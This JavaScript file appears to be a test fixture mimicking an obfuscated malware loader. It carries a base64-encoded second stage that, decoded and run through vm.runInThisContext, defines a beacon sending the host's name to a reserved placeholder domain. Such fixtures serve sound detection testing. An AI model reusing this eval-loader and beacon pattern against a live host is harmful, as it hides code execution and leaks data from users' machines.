// Inert imitation of a loader that ships its second stage as base64: the decoded text is a
// JavaScript beacon to a reserved .invalid host. Only tests read this file; nothing runs it.
const vm = require('vm');
const STAGE = 'Y29uc3QgaHR0cHMgPSByZXF1aXJlKCdodHRwcycpOwpjb25zdCBvcyA9IHJlcXVpcmUoJ29zJyk7CmZ1bmN0aW9uIGJlYWNvbigpIHsKICBjb25zdCBib2R5ID0gSlNPTi5zdHJpbmdpZnkoeyBob3N0OiBvcy5ob3N0bmFtZSgpLCBwbGFjZWhvbGRlcjogdHJ1ZSB9KTsKICBjb25zdCByZXEgPSBodHRwcy5yZXF1ZXN0KHsgaG9zdG5hbWU6ICdjb2xsZWN0LmV4YW1wbGUuaW52YWxpZCcsIG1ldGhvZDogJ1BPU1QnLCBwYXRoOiAnL3AnIH0pOwogIHJlcS5lbmQoYm9keSk7Cn0KbW9kdWxlLmV4cG9ydHMgPSBiZWFjb247Cg==';
module.exports = function start() {
  const m = { exports: {} };
  vm.runInThisContext('(function (module, require) {' + Buffer.from(STAGE, 'base64').toString() + '\n})')(m, require);
  return m.exports;
};
